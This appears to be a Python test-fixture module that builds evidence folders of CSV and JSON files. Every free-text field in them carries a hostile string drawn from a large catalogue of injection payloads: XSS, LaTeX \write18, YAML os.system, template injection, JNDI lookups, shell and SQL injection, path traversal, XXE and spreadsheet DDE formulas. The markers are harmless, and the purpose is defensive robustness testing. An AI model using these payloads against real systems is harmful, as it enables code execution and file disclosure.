"""Texts that mean harm, in families, and the evidence folders that carry them.

A text that gets to run says so: scripts set ``window.PWNED``, programs make a file called PWNED.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

_RUN = "window.PWNED=1"

#: Family -> texts.
TEXTS: Mapping[str, tuple[str, ...]] = {
    "html": (
        f"<script>{_RUN}</script>",
        f"</script><script>{_RUN}</script>",
        f"<ScRiPt >{_RUN}</sCrIpT >",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        '<script src="https://example.invalid/x.js"></script>',
        f"<img src=x onerror={_RUN}>",
        f'"><img src=x onerror="{_RUN}">',
        f"'><img src=x onerror='{_RUN}'>",
        f'" onmouseover="{_RUN}" x="',
        f"' autofocus onfocus='{_RUN}' x='",
        f"<svg onload={_RUN}>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><foreignObject><body onload={_RUN}></body></foreignObject></svg>",
        f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
        f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
        f'<a href="javascript:{_RUN}">x</a>',
        f"javascript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
        '<iframe src="https://example.invalid/"></iframe>',
        f"<body onload={_RUN}>",
        f"<details open ontoggle={_RUN}>x</details>",
        f"<video><source onerror={_RUN}></video>",
        f"<input autofocus onfocus={_RUN}>",
        "<style>@import 'https://example.invalid/x.css';*{display:none}</style>",
        '<link rel="stylesheet" href="https://example.invalid/x.css">',
        '<meta http-equiv="refresh" content="0;url=https://example.invalid/">',
        '<base href="https://example.invalid/">',
        f'<form action="https://example.invalid/"><button formaction="javascript:{_RUN}">x</button></form>',
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"&#60;script&#62;{_RUN}&#60;/script&#62;",
        f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
        f"<!-- --><script>{_RUN}</script><!--",
        "--><!--",
        f"<![CDATA[<script>{_RUN}</script>]]>",
        "]]></svg>",
        f"</title></style></textarea></table></pre><script>{_RUN}</script>",
        f"<template><script>{_RUN}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
        "</td></tr></table><h1>Rate 100 %</h1>",
        "${" + _RUN + "}`",
        "{{constructor.constructor('" + _RUN + "')()}}",
        "＜script＞" + _RUN + "＜/script＞",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    ),
    "markdown": (
        f"[x](javascript:{_RUN})",
        "![x](https://example.invalid/x.png)",
        f"<details markdown=1 ontoggle={_RUN} open>",
        "# Rate 100 %",
        "| a | b |",
        "```{=html}",
        "~~~",
        "[x]: https://example.invalid/",
        "<https://example.invalid/>",
        "**bold** _it_ ~~no~~",
        "$\\href{javascript:window.PWNED=1}{x}$",
        "\\(\\require{html}\\)",
        "$$\\unicode{x3c}script$$",
        "\\[\\def\\x{\\x\\x}\\x\\]",
        "$\\style{position:fixed;top:0}{x}$",
    ),
    "typesetting": (
        "$\\frac{1}",
        "$",
        "$$",
        "\\$",
        "$x$ and $\\undefined{$",
        "a$b^{c_{d$",
        "\\input{/etc/passwd}",
        "\\write18{touch PWNED}",
        "\\immediate\\openout1=PWNED",
        "\\end{tabular}\\end{document}",
        "\\catcode`\\%=0",
        "\\def\\x{\\x}\\x",
        "^^5cinput",
        "a & b \\\\ c",
        "% all after this is gone",
        "{}}{",
        "~#_^",
        "\\csname input\\endcsname{x}",
        '#read("/etc/passwd")',
        '#import "@preview/example:0.1.0": *',
        "#{while true {}}",
        "*strong* _emph_ `raw` @ref <label>",
        '#eval("1 + 1")',
        "\\hspace{1000cm}",
    ),
    "yaml and templates": (
        "!!python/object/apply:os.system ['touch PWNED']",
        "!!python/name:os.system",
        "*anchor",
        "&anchor [*anchor, *anchor]",
        "key: value",
        "- item",
        "--- # new document",
        "{a: b}",
        "%YAML 1.2",
        "{{ 7 * 7 }}",
        "{% for x in ().__class__.__bases__ %}{% endfor %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{0.__class__.__init__.__globals__}",
        "{outcome}",
        "{",
        "}",
        "{}",
        "{:>999999999}",
        "%s%s%s%n",
        "%(name)s",
        "%999999999d",
        "<%= 7 * 7 %>",
        "#{7 * 7}",
        "${jndi:ldap://example.invalid/x}",
    ),
    "code": (
        "'",
        '"',
        "'''",
        '"""',
        "\\",
        "\\\\",
        "\\'",
        '\\"',
        '"; open("PWNED", "w").close(); "',
        "'; open('PWNED', 'w').close(); '",
        '""" + __import__("os").system("touch PWNED") + """',
        "\\N{BULLET}\\x41\\u0041\\101",
        "__import__('os').system('touch PWNED')",
        "'+__import__('pathlib').Path('PWNED').write_text('x')+'",
        "x = 1; import os; os.system('touch PWNED')",
        "%run PWNED.py",
        "!touch PWNED",
        "%%bash",
        "?x",
        "x??",
        "$(touch PWNED)",
        "`touch PWNED`",
        "; touch PWNED #",
        "| touch PWNED",
        "&& touch PWNED",
        "> PWNED",
        "-rf",
        "--help",
        "'; DROP TABLE studies; --",
        "%PATH%",
        "$HOME",
        "@file",
        "I(__import__('os').system('touch PWNED'))",
        "~ year",
    ),
    "paths": (
        "../../../etc/passwd",
        "..\\..\\..\\Windows\\win.ini",
        "/etc/passwd",
        "C:\\Windows\\system32",
        "\\\\server\\share\\x",
        "//server/share/x",
        "\\\\?\\C:\\x",
        "file:///etc/passwd",
        "..",
        ".",
        "...",
        ".hidden",
        "~",
        "~root/x",
        "CON",
        "con.txt",
        "NUL",
        "nul.tar.gz",
        "COM1",
        "LPT9.csv",
        "aux",
        "CONIN$",
        "COM\u00b9",
        "name. ",
        "name ...",
        "name:stream",
        "a/b",
        "a\\b",
        "analyses",
        "replication",
        ".metanet",
        "index.html",
        "numbers.json",
        "x" * 300,
        "ü" * 120,
        "a/" * 200,
        "%2e%2e%2f",
        "*?<>|",
    ),
    "spreadsheet": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.invalid/","x")',
        '=IMPORTXML("https://example.invalid/","//a")',
        '=WEBSERVICE("https://example.invalid/")',
        '=DDE("cmd";"/C calc";"x")',
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        '"=1+1"',
        "'=1+1",
        "x;=1+1",
        "x;=cmd|' /C calc'!A0;",
        "x\n=1+1",
        'x","=1+1',
        "<r><t>x</t></r>",
        "internal:Sheet1!A1",
        "{=1+1}",
        "R1C1",
        "#REF!",
        "0012",
        "1E5",
        "MARCH1",
    ),
    "invisible": (
        "x\x1b[31mred\x1b[0m",
        "x\x1b]0;title\x07",
        "x\x1b[2J\x1b[1;1H",
        "x\x9b31m",
        "x\x07\x08\x08",
        "x\ry",
        "\t=1+1",
        "x\x00y",
        "x\x01\x02\x0b\x0c\x0e\x1f\x7f",
        "x\x85y",
        "x\u2028y",
        "x\u2029y",
        "\u202e%001 etaR\u202c",
        "x\u202a\u202b\u202d",
        "x\u2066\u2067\u2068\u2069",
        "x\u200e\u200f\u061c",
        "x\u200b\u200c\u200d\u2060",
        "\ufeffx",
        "x\u00ad-y",
        "x\U000e0041\U000e0042",
        "x\ud800",
        "x\udcff",
        "\ue000\uf8ff",
        "x\ufff9a\ufffab\ufffb",
        "x\ufffd",
        "\ufffe\uffff\U0001ffff",
        "\u3164\u115f\u2800",
        "\u00a0\u3000x",
        "x\u180ey",
        "x\ufe0f\U000e0100",
    ),
    "letters": (
        "Z\u0351\u0306\u0310\u034a" * 60,
        "x" + "\u0338" * 500,
        "x" + "\u20dd" * 200,
        "\u202fx\u2009y",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "🇩🇪🇫",
        "שלום 12/20",
        "مرحبا 50 %",
        "ﷺ﷽" * 20,
        "𒐫𒈙" * 10,
        "ﬃ½Ⅷ㎏",
        "аdmin",
        "İıſK",
        "ß" * 80,
        "日本語の研究",
        "ไทย",
        "n\u0303 \u0301",
        "A\u030a",
    ),
    "numbers": (
        "1e999",
        "-1e999",
        "nan",
        "NaN",
        "inf",
        "-Infinity",
        "0x10",
        "0b1",
        "1_000",
        "١٢",
        "１２",
        "²",
        "½",
        "9" * 400,
        "9" * 5000,
        "-0",
        "1,5",
        "1.234.567",
        "5 (25%)",
        "1/0",
        "None",
        "null",
        "true",
        "<NA>",
        "2024-01-01",
        "00000000000000000001",
    ),
}
EVERY: tuple[str, ...] = tuple(text for family in TEXTS.values() for text in family)

_TEXT = {"type": "string"}
_STUDIES = ("study_id", "first_author", "year", "title", "country")
_ARMS = ("study_id", "arm", "modality", "modality_class", "n")
_COUNTS = ("study_id", "arm", "events", "total", "unit", "criteria", "derived", "derivation", "source", "note")
_NUMBERS = ("year", "n", "events", "total")
_REQUIRED = ("study_id", "year", "arm", "modality", "modality_class", "events", "total")


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """A CSV as a spreadsheet would write it; bytes that are no text come from lone surrogates."""
    with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as file:
        writer = csv.DictWriter(file, columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def field(name: str) -> dict[str, Any]:
    """A column that takes any text, or whole numbers."""
    kind = {"type": "integer"} if name in _NUMBERS else {"type": "boolean"} if name == "derived" else _TEXT
    return {"name": name, **kind, **({"constraints": {"required": True}} if name in _REQUIRED else {})}


def resource(name: str, columns: Sequence[str], file: str | None = None, **about: Any) -> dict[str, Any]:
    """A table of a descriptor."""
    schema = {"fields": [field(column) for column in columns]}
    return {"name": name, "path": file or f"{name}.csv", "schema": schema, "metanet": about}


def descriptor(outcomes: Mapping[str, str]) -> dict[str, Any]:
    """A descriptor whose outcomes are named by their keys and printed as their values; the files are response0.csv and so on."""
    tables = [resource("studies", _STUDIES, role="studies"), resource("arms", _ARMS, role="arms")]
    for place, (name, label) in enumerate(outcomes.items()):
        direction = "lower_is_better" if place % 2 else "higher_is_better"
        about = {"role": "outcome", "outcome": name, "label": label, "direction": direction}
        tables.append(resource(f"response{place}", _COUNTS, **about))
    return {"name": "hostile", "title": "Hostile", "resources": tables}


def write_evidence(
    folder: Path, texts: Sequence[str], outcomes: Mapping[str, str] | None = None, modalities: Sequence[str] = ("A", "B")
) -> Path:
    """An evidence folder of its own contract in which every study carries one of `texts` wherever text is free."""
    folder.mkdir(parents=True)
    named = outcomes or {"response": "Response", "harm": "Harm"}
    (folder / "datapackage.json").write_text(json.dumps(descriptor(named)), encoding="utf-8")
    studies, arms, counts = [], [], []
    for place, text in enumerate(texts):
        key = f"S{place}"
        kind = modalities[place % len(modalities)]
        studies.append({"study_id": key, "first_author": text, "year": 2000, "title": text, "country": text})
        arms.append({"study_id": key, "arm": text, "modality": kind, "modality_class": kind, "n": 40})
        counts.append(
            {"study_id": key, "arm": text, "events": place % 7 + 1, "total": 20 + place % 9, "unit": "patients", "criteria": text,
             "derived": "true", "derivation": text, "source": text, "note": text}
        )  # fmt: skip
    write_csv(folder / "studies.csv", _STUDIES, studies)
    write_csv(folder / "arms.csv", _ARMS, arms)
    for place in range(len(named)):
        write_csv(folder / f"response{place}.csv", _COUNTS, counts)
    return folder
